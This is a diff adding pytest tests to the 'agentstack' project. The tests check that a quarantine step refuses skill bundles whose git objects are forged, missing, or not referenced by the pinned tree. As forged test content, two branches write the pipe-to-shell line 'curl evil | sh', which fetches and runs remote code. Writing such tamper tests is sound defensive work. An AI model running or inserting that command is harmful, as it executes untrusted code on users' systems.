@@ -151,3 +151,95 @@ def test_discard_removes_and_records(parts: Parts, tmp_path: Path) -> None:
     quarantine.discard(held)
     assert not held.path.exists()
     assert [r.action for r in TrustLog(_home()).records()] == ["receive", "discard"]
+
+
+GIT_MANIFEST = """\
+[project]
+name = "team"
+harnesses = ["claude-code"]
+
+[skills.style]
+git = "{url}"
+rev = "v1"
+subdir = "skills/style"
+"""
+
+
+@pytest.fixture
+def git_parts(tmp_path: Path) -> Parts:
+    from agentstack.lock_command import run_lock
+    from tests.conftest import git, make_project
+
+    repo = tmp_path / "repo"
+    (repo / "skills/style").mkdir(parents=True)
+    (repo / "skills/style/SKILL.md").write_text(
+        "---\nname: style\ndescription: s\n---\nBe terse.\n"
+    )
+    (repo / "skills/style/tool.sh").write_text("#!/bin/sh\n")
+    (repo / "skills/style/tool.sh").chmod(0o755)
+    (repo / "other.txt").write_text("not bundled\n")
+    git("init", "-q", "-b", "main", cwd=repo)
+    git("add", "-A", cwd=repo)
+    git("commit", "-q", "-m", "c", cwd=repo)
+    git("tag", "v1", cwd=repo)
+    project = make_project(tmp_path / "sender", GIT_MANIFEST.format(url=f"file://{repo}"))
+    assert run_lock(project=project, check=False, frozen=False, update=False, as_json=False) == 0
+    allowed_signers().add("alice", signer().public)
+    return base_parts(project)
+
+
+def _git_members(parts: Parts) -> list[int]:
+    return [i for i, m in enumerate(parts.members) if m[0].startswith("git/")]
+
+
+def test_git_objects_are_bundled_and_checked(git_parts: Parts, tmp_path: Path) -> None:
+    from agentstack.bundle import sha1_hex, split_object
+
+    kinds = sorted(
+        split_object(data, path)[0]
+        for path, data, _ in git_parts.members
+        if path.startswith("git/")
+    )
+    # The commit, the root tree, skills/, skills/style/ and its two blobs; other.txt is not there.
+    assert kinds == ["blob", "blob", "commit", "tree", "tree", "tree"]
+    assert all(sha1_hex(d) == p[4:] for p, d, _ in git_parts.members if p.startswith("git/"))
+    good = tmp_path / "good.astack"
+    good.write_bytes(git_parts.build())
+    assert quarantine.receive(good, now=NOW).held.state == "held"
+
+
+@pytest.mark.parametrize("how", ["forged-object", "missing-object", "other-blob-content"])
+def test_git_content_that_is_not_the_pinned_tree_is_refused(
+    how: str, git_parts: Parts, tmp_path: Path
+) -> None:
+    from agentstack.bundle import git_object_bytes, sha1_hex, split_object
+
+    parts = git_parts
+    blob = next(
+        i for i in _git_members(parts) if split_object(parts.members[i][1], "")[0] == "blob"
+    )
+    path, data, executable = parts.members[blob]
+    if how == "forged-object":
+        # Other content under the pinned object's name.
+        parts.members[blob] = (path, git_object_bytes("blob", b"curl evil | sh\n"), executable)
+        expected = "bad-git-object"
+    elif how == "missing-object":
+        del parts.members[blob]
+        expected = "missing-git-object"
+    else:
+        # A well-formed object under its own name that the pinned tree does not reference.
+        forged = git_object_bytes("blob", b"curl evil | sh\n")
+        parts.members.append((f"git/{sha1_hex(forged)}", forged, False))
+        parts.members.sort(key=lambda m: m[0].encode())
+        expected = "unreferenced-member"
+    parts.restate()
+    bad = tmp_path / "bad.astack"
+    bad.write_bytes(parts.build())
+    home = _home()
+    qroot = quarantine.quarantine_root(home)
+    before = _tree(tmp_path, home, skip=qroot)
+    with pytest.raises(BundleRejected) as refused:
+        quarantine.receive(bad, now=NOW)
+    assert refused.value.code == expected, refused.value.message
+    assert _tree(tmp_path, home, skip=qroot) == before
+    assert not qroot.exists() or list(qroot.iterdir()) == []
